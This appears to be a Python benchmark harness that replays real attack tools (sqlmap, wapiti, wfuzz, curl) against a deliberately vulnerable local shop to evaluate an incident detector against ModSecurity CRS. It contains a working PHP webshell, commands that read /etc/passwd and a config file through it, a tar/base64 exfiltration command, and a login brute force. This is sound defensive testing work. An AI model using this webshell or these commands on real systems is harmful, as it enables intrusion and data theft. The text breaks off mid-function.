"""Incident replay: real attack tools and a real browser against a local shop, with known truth.

Usage::

    bash scripts/install_replay_deps.sh                       # Debian tools + selenium (once)
    python benchmarks/incidents_replay.py --scenarios dev --out runs/replay          # develop on this one
    python benchmarks/incidents_replay.py --scenarios test --out runs/replay --report reports/incidents
    python benchmarks/incidents_replay.py --eval-only --scenarios test --out runs/replay --report reports/incidents
    python benchmarks/incidents_replay.py --eval-only --correlate-only --scenarios test --out runs/replay --report DIR

What one scenario does, all on 127.0.0.1:

* **the site**: ``benchmarks/replay_app.py`` (Starlette on a unix socket: product pages and a search
  with SQL injection, a login, an upload that stores anything) behind a private nginx that serves
  ``/static`` itself and logs the standard combined format. The same nginx runs OWASP CRS 3.3 in
  ModSecurity v3 in detection-only mode with a JSON audit log: the rule baseline.
* **actors**, each from its own loopback address (127.<s>.0.<n>): a small TCP relay per actor
  accepts on 127.0.0.1 and connects to nginx *from* the actor's address, so every tool -- sqlmap,
  wapiti, wfuzz, curl, Chromium -- is used unmodified and nginx logs the actor's address.
  Attackers run Debian's ``sqlmap``, ``wapiti``, ``wfuzz`` and curl-scripted steps (directory brute
  force, webshell upload, command execution, exfiltration); benign actors are headless Chromium
  (Debian ``chromium`` + ``chromium-driver`` driven by selenium; fresh profile, the flags below)
  browsing, searching, logging in and uploading a picture, with human pauses, for the whole scenario.
* **host stages**: Windows events of the shared EVTX attack samples (files of the evtx task's test
  split only) are re-timed after the webshell and attached to the web server's host ``web01``; the
  shipped ``evtx-tactic`` detector labels them (``secllm detect --task evtx-tactic``).
* **truth**: every step records ``(actor, tactic, start, end, tool)``; actors are their addresses.

Detection and correlation use the shipped CLI exactly as a user would:
``secllm scan access.log --all --raw-ips`` (every item: benign ones are the correlator's context),
then ``secllm incidents findings.jsonl host_findings.jsonl --host-of access.log=web01``. The rule
baseline groups CRS alerts (transactions whose inbound anomaly score reached CRS's blocking
threshold, rule 949110) by client address. The detector is not tuned here: the scenario ``dev``
was used to develop the correlator, the ``test`` scenarios are reported.

Metrics (``evaluate``): incident purity and completeness, attackers found, incidents of
benign-only actors, stage detection per tactic, path order, time to first alert, false incidents
per day of benign traffic -- for SecLLM and for the CRS baseline.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter, defaultdict
from dataclasses import asdict, dataclass, field
from pathlib import Path
from urllib.parse import quote
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))  # this checkout's secllm first


HERE = Path(__file__).resolve().parent
REPO = HERE.parent
PY = sys.executable
NGINX = shutil.which("nginx") or "/usr/sbin/nginx"
MODSEC_MODULE = "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so"
CRS_SETUP = "/etc/modsecurity/crs/crs-setup.conf"
CRS_RULES = "/usr/share/modsecurity-crs/rules"
WORDS_DIRS = "/usr/share/wfuzz/wordlist/general/common.txt"
WORDS_PASS = "/usr/share/wfuzz/wordlist/others/common_pass.txt"
CHROMIUM_FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run"]
BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
HOST = "web01"
SHELL = b'<?php if(isset($_GET["cmd"])){ system($_GET["cmd"]); } ?>\n'
# EVTX files of the evtx-tactic task's *test* split (secllm.data.sources.evtx_attack, group split seed 0)
EVTX_FILES = {
    "privilege-escalation": "Privilege Escalation/Runas_4624_4648_Webshell_CreateProcessAsUserA.evtx",
    "credential-access": "Credential Access/ppl_bypass_ppldump_knowdll_hijack_sysmon_security.evtx",
    "persistence": "Persistence/persistence_SilentProcessExit_ImageHijack_sysmon_13_1.evtx",
    "execution": "Execution/Exec_sysmon_meterpreter_reversetcp_msipackage.evtx",
    "lateral-movement": "Lateral Movement/LM_Remote_Service01_5145_svcctl.evtx",
}


def log(msg: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {msg}", file=sys.stderr, flush=True)


# ------------------------------------------------------------------------------------------------
# the site: app + nginx (+ ModSecurity CRS, detection only)
# ------------------------------------------------------------------------------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000" "1f15c4890000000d49444154789c6360"
                     "f8cfc0f01f0005000201e2b1d1a40000000049454e44ae426082")


class Site:
    """nginx on 127.0.0.1:<port> in front of the app; logs in ``out``."""

    def __init__(self, out: Path, tmp: Path):
        self.out, self.tmp = out, tmp
        self.port = _free_port()
        self.procs: list[subprocess.Popen] = []

    def start(self) -> Site:
        t = self.tmp
        (t / "static").mkdir(parents=True, exist_ok=True)
        (t / "static" / "site.css").write_text("body{font-family:sans-serif;margin:2em} nav a{margin-right:1em}\n")
        (t / "static" / "site.js").write_text(
            "fetch('/api/items').then(r=>r.json()).then(items=>{const u=document.createElement('ul');"
            "items.forEach(i=>{const l=document.createElement('li');l.textContent=i.name;u.appendChild(l)});"
            "document.body.appendChild(u)}).catch(()=>{});\n")
        (t / "static" / "logo.png").write_bytes(_PNG)
        (t / "modsec").mkdir(exist_ok=True)
        os.chmod(t / "modsec", 0o1777)
        os.chmod(t, 0o755)
        env = {**os.environ, "REPLAY_APP_DIR": str(t / "app"), "PYTHONPATH": str(HERE)}
        app_log = open(self.out / "app.log", "w")
        self.procs.append(subprocess.Popen(
            [PY, "-m", "uvicorn", "--uds", str(t / "app.sock"), "--log-level", "warning", "replay_app:app"],
            cwd=HERE, env=env, stdout=app_log, stderr=app_log, start_new_session=True))
        (t / "modsecurity.conf").write_text(f"""
SecRuleEngine DetectionOnly
SecRequestBodyAccess On
SecResponseBodyAccess Off
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 131072
SecTmpDir {t}/modsec
SecDataDir {t}/modsec
SecAuditEngine RelevantOnly
SecAuditLogRelevantStatus "^(?:5|4(?!04))"
SecAuditLogParts ABFHZ
SecAuditLogType Serial
SecAuditLogFormat JSON
SecAuditLog {self.out}/modsec_audit.json
Include {CRS_SETUP}
Include {CRS_RULES}/*.conf
# every request of the replay goes to a numeric loopback address: CRS's 920350 would fire on all
SecRuleRemoveById 920350
""")
        (t / "nginx.conf").write_text(f"""
user root;
worker_processes 2;
daemon off;
pid {t}/nginx.pid;
error_log {t}/error.log warn;
load_module {MODSEC_MODULE};
events {{ worker_connections 512; }}
http {{
  access_log {self.out}/access.log combined;
  client_body_temp_path {t}/cb; proxy_temp_path {t}/px; fastcgi_temp_path {t}/fc; uwsgi_temp_path {t}/uw;
  scgi_temp_path {t}/sc;
  client_max_body_size 4m;
  types {{ text/css css; application/javascript js; image/png png; text/html html; }}
  server {{
    listen 127.0.0.1:{self.port};
    modsecurity on;
    modsecurity_rules_file {t}/modsecurity.conf;
    location /static/ {{ alias {t}/static/; }}
    location = /favicon.ico {{ alias {t}/static/logo.png; }}
    location / {{ proxy_pass http://unix:{t}/app.sock; proxy_set_header Host $host; }}
  }}
}}
""")
        err = open(self.out / "nginx.stderr", "w")
        self.procs.append(subprocess.Popen([NGINX, "-p", str(t), "-c", str(t / "nginx.conf")], stdout=err,
                                           stderr=err, start_new_session=True))
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=1) as s:
                    s.sendall(b"GET /about HTTP/1.0\r\nHost: setup\r\n\r\n")
                    if b" 200 " in s.recv(200):
                        return self
            except OSError:
                pass
            time.sleep(0.5)
        raise RuntimeError("the site did not come up; see " + str(self.out))

    def stop(self) -> None:
        for p in reversed(self.procs):
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGQUIT if p.args[0] == NGINX else signal.SIGTERM)
                    p.wait(timeout=15)
                except (ProcessLookupError, subprocess.TimeoutExpired):
                    try:
                        os.killpg(p.pid, signal.SIGKILL)
                    except ProcessLookupError:
                        pass


# ------------------------------------------------------------------------------------------------
# one loopback source address per actor
# ------------------------------------------------------------------------------------------------

class Relays:
    """Per actor: accept on 127.0.0.1:<port>, connect to nginx from the actor's own address."""

    def __init__(self, upstream: int):
        self.upstream = upstream
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        self.servers: list = []

    def add(self, ip: str) -> int:
        return asyncio.run_coroutine_threadsafe(self._serve(ip), self.loop).result(10)

    async def _serve(self, ip: str) -> int:
        async def pipe(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
            try:
                while data := await r.read(65536):
                    w.write(data)
                    await w.drain()
                if w.can_write_eof():
                    w.write_eof()
            except (ConnectionError, OSError):
                pass

        async def handle(cr: asyncio.StreamReader, cw: asyncio.StreamWriter) -> None:
            try:
                ur, uw = await asyncio.open_connection("127.0.0.1", self.upstream, local_addr=(ip, 0))
            except OSError:
                cw.close()
                return
            await asyncio.gather(pipe(cr, uw), pipe(ur, cw))
            for w in (cw, uw):
                try:
                    w.close()
                except OSError:
                    pass

        srv = await asyncio.start_server(handle, "127.0.0.1", 0)
        self.servers.append(srv)
        return srv.sockets[0].getsockname()[1]

    def close(self) -> None:
        for s in self.servers:
            self.loop.call_soon_threadsafe(s.close)
        self.loop.call_soon_threadsafe(self.loop.stop)


# ------------------------------------------------------------------------------------------------
# actors and their steps
# ------------------------------------------------------------------------------------------------

@dataclass
class Stage:
    tactic: str
    start: float
    end: float
    tool: str
    note: str = ""


@dataclass
class Actor:
    name: str
    ip: str
    role: str                      # attacker | benign
    plan: list                     # steps: (kind, kwargs)
    delay: float = 0.0             # seconds after the scenario start
    stages: list[Stage] = field(default_factory=list)
    base: str = ""
    requests_hint: int = 0


class Ctx:
    def __init__(self, out: Path, tmp: Path, stop: threading.Event, rng: random.Random):
        self.out, self.tmp, self.stop, self.rng = out, tmp, stop, rng
        self.host_events: list[dict] = []
        self.lock = threading.Lock()


def _run(cmd: list[str], out: Path, timeout: float, on_line=None) -> int:
    """Run a tool, its output to a log file; ``on_line`` sees each stdout line as it comes."""
    with open(out, "ab") as logf:
        logf.write(("\n$ " + " ".join(cmd) + "\n").encode())
        p = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
                             start_new_session=True)
        deadline = time.monotonic() + timeout
        assert p.stdout is not None
        os.set_blocking(p.stdout.fileno(), False)
        buf = b""
        while True:
            chunk = p.stdout.read()
            if chunk:
                logf.write(chunk)
                buf += chunk
                *lines, buf = buf.split(b"\n")
                if on_line:
                    for ln in lines:
                        on_line(ln.decode("utf-8", "replace"))
            if p.poll() is not None and not chunk:
                break
            if time.monotonic() > deadline:
                os.killpg(p.pid, signal.SIGTERM)
                try:
                    p.wait(10)
                except subprocess.TimeoutExpired:
                    os.killpg(p.pid, signal.SIGKILL)
                logf.write(b"\n[harness: timeout]\n")
                break
            time.sleep(0.1)
        return p.returncode if p.returncode is not None else -1


def _curl(base: str, path: str, *args: str, ua: str = BROWSER_UA) -> str:
    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-A", ua, "--max-time", "30",
                        *args, base + path], capture_output=True, text=True)
    return r.stdout


def step_sqlmap(a: Actor, ctx: Ctx, path: str = "/product?id=1", random_agent: bool = False) -> None:
    d = ctx.tmp / f"sqlmap-{a.name}"
    cmd = ["sqlmap", "-u", a.base + path, "--batch", "--flush-session", "--output-dir", str(d), "--technique=BEU",
           "--level=1", "--risk=1", "--threads=2", "--dump", "-T", "users", "--disable-coloring", "--timeout=15",
           "--retries=1"]
    if random_agent:
        cmd.append("--random-agent")
    t0 = time.time()
    _run(cmd, ctx.out / f"{a.name}.tool.log", 600)
    a.stages.append(Stage("initial-access", t0, time.time(), "sqlmap", path))


def step_wapiti(a: Actor, ctx: Ctx, max_scan: int = 240) -> None:
    t0 = time.time()
    marks: dict[str, float] = {}

    def on_line(ln: str) -> None:
        if "Launching module" in ln and "attack" not in marks:
            marks["attack"] = time.time()

    _run(["wapiti", "-u", a.base + "/", "--scope", "folder", "-m", "sql,exec,file,xss", "--flush-session",
          "--store-session", str(ctx.tmp / f"wapiti-{a.name}"), "--store-config", str(ctx.tmp / f"wapiti-{a.name}"),
          "-f", "json", "-o", str(ctx.tmp / f"wapiti-{a.name}.json"), "--max-scan-time", str(max_scan),
          "--max-attack-time", "60", "-d", "3", "--no-bugreport", "-v", "1"],
         ctx.out / f"{a.name}.tool.log", max_scan + 120, on_line)
    t1 = marks.get("attack", time.time())
    a.stages.append(Stage("reconnaissance", t0, t1, "wapiti", "crawl"))
    if "attack" in marks:
        a.stages.append(Stage("initial-access", t1, time.time(), "wapiti", "sql,exec,file,xss modules"))


def step_wfuzz_dirs(a: Actor, ctx: Ctx, stealth: bool = False) -> None:
    t0 = time.time()
    cmd = ["wfuzz", "-w", WORDS_DIRS, "--hc", "404", "-t", "3"]
    if stealth:
        cmd += ["-H", f"User-Agent: {BROWSER_UA}"]
    _run(cmd + [a.base + "/FUZZ"], ctx.out / f"{a.name}.tool.log", 600)
    a.stages.append(Stage("reconnaissance", t0, time.time(), "wfuzz", "directory brute force"))


def step_wfuzz_login(a: Actor, ctx: Ctx, stealth: bool = True) -> None:
    t0 = time.time()
    cmd = ["wfuzz", "-z", f"file,{WORDS_PASS}", "-d", "user=admin&password=FUZZ", "--hc", "401", "-t", "2"]
    if stealth:
        cmd += ["-H", f"User-Agent: {BROWSER_UA}"]
    _run(cmd + [a.base + "/login"], ctx.out / f"{a.name}.tool.log", 600)
    a.stages.append(Stage("credential-access", t0, time.time(), "wfuzz", "login brute force"))


def step_curl_dirs(a: Actor, ctx: Ctx, n: int = 150) -> None:
    words = [w.strip() for w in open(WORDS_DIRS) if w.strip()]
    rng = random.Random(a.name)
    t0 = time.time()
    for w in rng.sample(words, min(n, len(words))):
        _curl(a.base, "/" + quote(w))
        time.sleep(rng.uniform(0.05, 0.3))
    a.stages.append(Stage("reconnaissance", t0, time.time(), "curl", f"directory brute force ({n} paths)"))


def step_webshell(a: Actor, ctx: Ctx, exfil: bool = True, host_stages: tuple[str, ...] = ()) -> None:
    rng = random.Random(a.name + "ws")
    shell = ctx.tmp / f"{a.name}-img.php"
    shell.write_bytes(SHELL)
    t0 = time.time()
    _curl(a.base, "/upload", "-F", f"file=@{shell};filename=img.php")
    a.stages.append(Stage("persistence", t0, time.time(), "curl", "webshell upload"))
    time.sleep(rng.uniform(5, 15))
    t0 = time.time()
    for cmd in ("id", "uname -a", "ls -la /srv/shop", "cat /etc/passwd", "cat /srv/shop/config.ini"):
        _curl(a.base, "/uploads/img.php?cmd=" + quote(cmd))
        time.sleep(rng.uniform(2, 8))
    a.stages.append(Stage("execution", t0, time.time(), "curl", "commands through the webshell"))
    if exfil:
        time.sleep(rng.uniform(5, 15))
        t0 = time.time()
        _curl(a.base, "/uploads/img.php?cmd=" + quote("tar czf - /srv/shop | base64 -w0"))
        a.stages.append(Stage("exfiltration", t0, time.time(), "curl", "archive of the shop's data"))
    for tactic in host_stages:
        time.sleep(rng.uniform(10, 20))
        t0 = time.time()
        n = _attach_evtx(ctx, tactic, a.name, t0)
        a.stages.append(Stage(tactic, t0, t0 + max(1.0, n * 0.5), "evtx", EVTX_FILES[tactic]))


_EVTX_CACHE: dict[str, list[dict]] = {}


def _evtx_events(file: str) -> list[dict]:
    if not _EVTX_CACHE:
        from secllm.paths import datasets_dir

        with gzip.open(datasets_dir() / "evtx_attack_samples" / "evtx_attack_samples.jsonl.gz", "rt") as f:
            for ln in f:
                o = json.loads(ln)
                _EVTX_CACHE.setdefault(o["file"], []).append(o)
    return _EVTX_CACHE[file]


def _attach_evtx(ctx: Ctx, tactic: str, actor: str, t0: float) -> int:
    """The events of one EVTX sample file, re-timed from ``t0`` (their own spacing, squeezed to <= 30 s)."""
    evs = _evtx_events(EVTX_FILES[tactic])
    with ctx.lock:
        for k, e in enumerate(evs):
            ctx.host_events.append({"time": t0 + min(30.0, 0.5 * k), "host": HOST, "xml": e["xml"],
                                    "truth_tactic": tactic, "truth_actor": actor, "file": e["file"]})
    return len(evs)


STEPS = {"sqlmap": step_sqlmap, "wapiti": step_wapiti, "wfuzz_dirs": step_wfuzz_dirs,
         "wfuzz_login": step_wfuzz_login, "curl_dirs": step_curl_dirs, "webshell": step_webshell}


def run_attacker(a: Actor, ctx: Ctx) -> None:
    if ctx.stop.wait(a.delay):
        return
    for kind, kw in a.plan:
        log(f"{a.name} ({a.ip}): {kind}")
        try:
            STEPS[kind](a, ctx, **kw)
        except Exception as exc:  # noqa: BLE001 - one failed step is reported, the scenario goes on
            log(f"{a.name}: {kind} failed: {exc!r}")
        time.sleep(ctx.rng.uniform(5, 20))


SEARCHES = ["shoes", "mug", "coffee", "tea", "backpack", "lamp", "wallet", "gift", "blue", "winter hat",
            "yoga", "mouse", "bottle", "notebook", "speaker", "knife", "umbrella", "t-shirt", "garden"]


def run_browser(a: Actor, ctx: Ctx, until: threading.Event) -> None:
    """Headless Chromium browsing like a person until ``until`` is set."""
    from selenium import webdriver
    from selenium.common.exceptions import WebDriverException
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By

    rng = random.Random(a.name)
    opts = webdriver.ChromeOptions()
    for fl in CHROMIUM_FLAGS:
        opts.add_argument(fl)
    opts.add_argument(f"--user-data-dir={ctx.tmp / ('profile-' + a.name)}")
    opts.add_argument("--window-size=1280,900")
    opts.binary_location = "/usr/bin/chromium"
    if ctx.stop.wait(a.delay):
        return
    drv = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=opts)
    drv.set_page_load_timeout(60)
    picture = ctx.tmp / f"{a.name}-holiday.png"
    picture.write_bytes(_PNG)
    t0 = time.time()
    try:
        drv.get(a.base + "/")
        while not until.is_set():
            act = rng.choices(["home", "product", "products", "search", "about", "login", "upload", "account"],
                              weights=[3, 5, 2, 4, 1, 1, 0.4, 0.6])[0]
            try:
                if act == "home":
                    drv.get(a.base + "/")
                elif act == "product":
                    drv.get(a.base + "/")
                    links = drv.find_elements(By.CSS_SELECTOR, "#featured a")
                    if links:
                        rng.choice(links).click()
                elif act == "products":
                    drv.get(a.base + "/products")
                elif act == "search":
                    box = drv.find_element(By.ID, "q")
                    box.clear()
                    box.send_keys(rng.choice(SEARCHES))
                    drv.find_element(By.ID, "go").click()
                elif act == "about":
                    drv.get(a.base + "/about")
                elif act == "login":
                    drv.get(a.base + "/login")
                    pw = "wonderland42" if rng.random() > 0.15 else "wonderland24"     # a typo now and then
                    drv.find_element(By.ID, "user").send_keys("alice")
                    drv.find_element(By.ID, "password").send_keys(pw)
                    drv.find_element(By.ID, "signin").click()
                elif act == "upload":
                    drv.get(a.base + "/upload")
                    drv.find_element(By.ID, "file").send_keys(str(picture))
                    drv.find_element(By.ID, "send").click()
                elif act == "account":
                    drv.get(a.base + "/account")
            except WebDriverException as exc:
                log(f"{a.name}: {act}: {type(exc).__name__}")
            until.wait(rng.uniform(2.0, 7.0))
    finally:
        drv.quit()
    a.stages.append(Stage("benign", t0, time.time(), "chromium", "browsing"))


# ------------------------------------------------------------------------------------------------
# scenarios
# ------------------------------------------------------------------------------------------------

def _att(name, plan, delay):
    return ("attacker", name, plan, delay)


def _ben(name, delay=0.0):
    return ("benign", name, [], delay)


SCENARIOS: dict[str, list] = {
    # used to develop the correlator (not in the reported figures)
    "dev": [_att("sqlmap", [("sqlmap", {})], 30),
            _att("webshell", [("curl_dirs", {"n": 120}), ("webshell", {"host_stages": ("credential-access",)})], 60),
            _ben("alice"), _ben("bob", 20)],
    # reported
    "s1-sqli-and-webshell": [
        _att("sqlmap", [("sqlmap", {"path": "/search?q=mug"})], 40),
        _att("webshell", [("curl_dirs", {"n": 150}),
                          ("webshell", {"host_stages": ("privilege-escalation", "persistence")})], 80),
        _ben("carol"), _ben("dave", 15)],
    "s2-scanners": [
        _att("wapiti", [("wapiti", {"max_scan": 200})], 30),
        _att("wfuzz", [("wfuzz_dirs", {})], 90),
        _ben("erin"), _ben("frank", 10)],
    "s3-bruteforce-then-shell": [
        _att("bruter", [("wfuzz_login", {"stealth": True}),
                        ("webshell", {"host_stages": ("execution", "lateral-movement")})], 30),
        _att("sqlmap-ra", [("sqlmap", {"path": "/product?id=2", "random_agent": True})], 100),
        _ben("grace")],
    "s4-quiet-recon": [
        _att("dirbuster", [("curl_dirs", {"n": 250})], 20),
        _att("wapiti2", [("wapiti", {"max_scan": 180})], 60),
        _ben("heidi"), _ben("ivan", 5), _ben("judy", 25)],
    "s5-everything": [
        _att("sqlmap3", [("sqlmap", {})], 20),
        _att("stealthy", [("wfuzz_dirs", {"stealth": True}),
                          ("webshell", {"host_stages": ("credential-access",)})], 50),
        _att("wapiti3", [("wapiti", {"max_scan": 150})], 140),
        _ben("ken"), _ben("lena", 30)],
}
TEST = [k for k in SCENARIOS if k != "dev"]


def run_scenario(idx: int, name: str, out: Path, seed: int = 0) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for p in out.iterdir():
        if p.is_file():
            p.unlink()
    with tempfile.TemporaryDirectory(prefix=f"replay-{name}-") as td:
        tmp = Path(td)
        site = Site(out, tmp).start()
        relays = Relays(site.port)
        rng = random.Random(seed + idx)
        stop, browsing = threading.Event(), threading.Event()
        ctx = Ctx(out, tmp, stop, rng)
        actors = []
        for n, (role, aname, plan, delay) in enumerate(SCENARIOS[name], 1):
            ip = f"127.{10 + idx}.0.{n + 1}"
            a = Actor(aname, ip, role, plan, delay)
            a.base = f"http://127.0.0.1:{relays.add(ip)}"
            actors.append(a)
        t_start = time.time()
        log(f"scenario {name}: site on 127.0.0.1:{site.port}, actors "
            + ", ".join(f"{a.name}={a.ip}" for a in actors))
        threads = []
        for a in actors:
            target = run_attacker if a.role == "attacker" else run_browser
            args = (a, ctx) if a.role == "attacker" else (a, ctx, browsing)
            th = threading.Thread(target=target, args=args, daemon=True)
            th.start()
            threads.append((a, th))
        try:
            for a, th in threads:
                if a.role == "attacker":
                    th.join()
            time.sleep(20)                         # the browsers go on a little after the last attack
        finally:
            browsing.set()
            stop.set()
            for a, th in threads:
                th.join(120)
            t_end = time.time()
            relays.close()
            site.stop()
        truth = {"scenario": name, "start": t_start, "end": t_end, "host": HOST,
                 "actors": [{"name": a.name, "ip": a.ip, "role": a.role, "stages": [asdict(s) for s in a.stages]}
                            for a in actors]}
        (out / "truth.json").write_text(json.dumps(truth, indent=1))
        with open(out / "host_events.jsonl", "w") as f:
            for e in sorted(ctx.host_events, key=lambda e: e["time"]):
                f.write(json.dumps(e) + "\n")
        log(f"scenario {name} done in {t_end - t_start:.0f} s")


# ------------------------------------------------------------------------------------------------
# detection (the shipped CLI) and the rule baseline
# ------------------------------------------------------------------------------------------------

def _cli(*args: str, stdout=None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO / "src") + os.pathsep + os.environ.get("PYTHONPATH", "")}
    r = subprocess.run([PY, "-m", "secllm.cli", *args], env=env, stdout=stdout or subprocess.PIPE,
                       stderr=subprocess.PIPE, text=True)
    if r.returncode != 0:
        raise RuntimeError(f"secllm {' '.join(args)} failed:\n{r.stderr[-3000:]}")
    return r


def detect(out: Path) -> dict:
    """scan the access log, label the host events, correlate; timings of each."""
    t = {}
    t0 = time.time()
    _cli("scan", str(out / "access.log"), "--format", "access-log", "--all", "--raw-ips", "--no-progress",
         "--out", str(out / "findings.jsonl"))
    t["scan_s"] = round(time.time() - t0, 1)
    events = [json.loads(ln) for ln in open(out / "host_events.jsonl")]
    host_findings = out / "host_findings.jsonl"
    with open(host_findings, "w") as f:
        if events:
            with tempfile.NamedTemporaryFile("w", suffix=".jsonl", delete=False) as tf:
                for k, e in enumerate(events, 1):
                    tf.write(json.dumps({"id": str(k), "text": e["xml"]}) + "\n")
            r = _cli("detect", "--task", "evtx-tactic", "--jsonl", "--json", "--file", tf.name, "--no-evidence")
            os.unlink(tf.name)
            res = [json.loads(ln) for ln in r.stdout.splitlines() if ln.startswith("{")]
            for k, (e, d) in enumerate(zip(events, res), 1):
                from datetime import datetime, timezone

                f.write(json.dumps({"id": f"host_events.jsonl:{k}", "file": "host_events.jsonl", "line": k,
                                    "source": None, "host": e["host"], "label": d.get("label"), "score": d.get("score"),
                                    "task": "evtx-tactic", "kind": "evtx", "status": d.get("status", "ok"),
                                    "time": datetime.fromtimestamp(e["time"], tz=timezone.utc).isoformat(),
                                    "text": e["file"]}) + "\n")
    t.update(correlate_run(out))
    return t


def correlate_run(out: Path) -> dict:
    """``secllm incidents`` on the scenario's findings (scan's and the labelled host events')."""
    t0 = time.time()
    _cli("incidents", str(out / "findings.jsonl"), str(out / "host_findings.jsonl"), "--host-of", f"access.log={HOST}",
         "--out", str(out / "incidents.jsonl"), "--html", str(out / "incidents.html"),
         "--markdown", str(out / "incidents.md"), "--stix", str(out / "incidents.stix.json"))
    return {"incidents_s": round(time.time() - t0, 1)}


def crs_baseline(out: Path) -> list[dict]:
    """CRS alerts (transactions CRS would block: rule 949110) grouped by client address, one
    incident per address; stages from the CRS rules' attack classes."""
    from secllm.incidents import Finding, read_findings
    from secllm.incidents.knowledge import TACTIC_RANK, tactics_of

    by_ip: dict[str, list] = defaultdict(list)
    if not (out / "modsec_audit.json").exists():
        return []
    for f in read_findings(out / "modsec_audit.json", "modsec"):
        if isinstance(f, Finding) and f.extra.get("blocking") and f.src:
            by_ip[f.src].append(f)
    incs = []
    for ip, fs in by_ip.items():
        stages: dict[str, float] = {}
        for f in fs:
            tac = f.tactics or (tactics_of(f.task, f.label)[0] if f.task and f.label else ())
            for t in tac[:1]:
                stages[t] = min(stages.get(t, f.time), f.time)
        incs.append({"id": f"crs-{ip}", "actors": [ip], "first_seen": min(f.time for f in fs),
                     "reported_at": min(f.time for f in fs),
                     "stages": [{"tactic": t, "first_seen": s} for t, s in
                                sorted(stages.items(), key=lambda kv: TACTIC_RANK.get(kv[0], 99))],
                     "items": [f"ip:{ip}:{f.id}" for f in fs], "item_actor": {f"ip:{ip}:{f.id}": ip for f in fs}})
    return incs


# ------------------------------------------------------------------------------------------------
# evaluation
# ------------------------------------------------------------------------------------------------

_LOG_IP = re.compile(r"^(\S+) ")


def _iso_epoch(s) -> float | None:
    if s is None or isinstance(s, (int, float)):
        return s
    from datetime import datetime

    return datetime.fromisoformat(s.replace("Z", "+00:00")).timestamp()


def evaluate(out: Path, system: str = "secllm") -> dict:
    truth = json.loads((out / "truth.json").read_text())
    actors = {a["ip"]: a for a in truth["actors"]}
    name_of = {a["name"]: a["ip"] for a in truth["actors"]}
    # item -> actor (ip)
    item_actor: dict[str, str] = {}
    requests: Counter = Counter()
    with open(out / "access.log", encoding="utf-8", errors="replace") as f:
        for n, ln in enumerate(f, 1):
            m = _LOG_IP.match(ln)
            if m:
                item_actor[f"access.log:{n}"] = m.group(1)
                requests[m.group(1)] += 1
    for n, ln in enumerate(open(out / "host_events.jsonl"), 1):
        item_actor[f"host_events.jsonl:{n}"] = name_of[json.loads(ln)["truth_actor"]]
    flagged: Counter = Counter()
    for ln in open(out / "findings.jsonl"):
        o = json.loads(ln)
        if o.get("label") == "malicious":
            flagged[item_actor.get(o["id"], "?")] += 1
    if system == "secllm":
        incs = [json.loads(ln) for ln in open(out / "incidents.jsonl")]
        for i in incs:
            i["first_seen"] = _iso_epoch(i["first_seen"])
            i["reported_at"] = _iso_epoch(i.get("reported_at"))
            for s in i["stages"]:
                s["first_seen"] = _iso_epoch(s["first_seen"])
    else:
        incs = crs_baseline(out)
        for i in incs:
            item_actor.update(i.pop("item_actor"))
    attackers = [ip for ip, a in actors.items() if a["role"] == "attacker"]
    benign = [ip for ip, a in actors.items() if a["role"] == "benign"]
    # purity: share of an incident's items that belong to its majority actor
    pur_num = pur_den = 0
    per_inc = []
    actor_in_inc: dict[str, Counter] = defaultdict(Counter)
    for k, i in enumerate(incs):
        c = Counter(item_actor.get(x, "?") for x in i["items"])
        major, n_major = c.most_common(1)[0]
        pur_num += n_major
        pur_den += sum(c.values())
        per_inc.append({"id": i["id"], "majority": major, "purity": n_major / sum(c.values()),
                        "items": sum(c.values()), "role": actors.get(major, {}).get("role", "unknown")})
        for ip, n in c.items():
            actor_in_inc[ip][k] = n
    # completeness: share of an attacker's correlated items that sit in its largest incident
    comp = {}
    for ip in attackers:
        c = actor_in_inc.get(ip)
        comp[ip] = (max(c.values()) / sum(c.values())) if c else 0.0
    found = {ip: any(p["majority"] == ip for p in per_inc) for ip in attackers}
    benign_incs = [p for p in per_inc if p["role"] != "attacker"]
    # stages: truth (actor, tactic) detected when an incident whose majority is the actor has the tactic
    stage_hits: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    window_hits: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    order_ok, order_n, ttfa = 0, 0, {}
    order_ok_web = 0
    per_actor = {}
    for ip in attackers:
        a = actors[ip]
        truth_stages: dict[str, float] = {}
        for s in a["stages"]:
            truth_stages[s["tactic"]] = min(truth_stages.get(s["tactic"], s["start"]), s["start"])
        mine = [incs[k] for k, p in enumerate(per_inc) if p["majority"] == ip]
        det: dict[str, float] = {}
        spans: dict[str, list[tuple[float, float]]] = defaultdict(list)
        for i in mine:
            for s in i["stages"]:
                det[s["tactic"]] = min(det.get(s["tactic"], s["first_seen"]), s["first_seen"])
                spans[s["tactic"]].append((s["first_seen"], _iso_epoch(s.get("last_seen")) or s["first_seen"]))
        for t in truth_stages:
            stage_hits[t][1] += 1
            stage_hits[t][0] += t in det
        # stricter: a detected stage of that tactic overlaps the true stage's time window (+60 s)
        for st in a["stages"]:
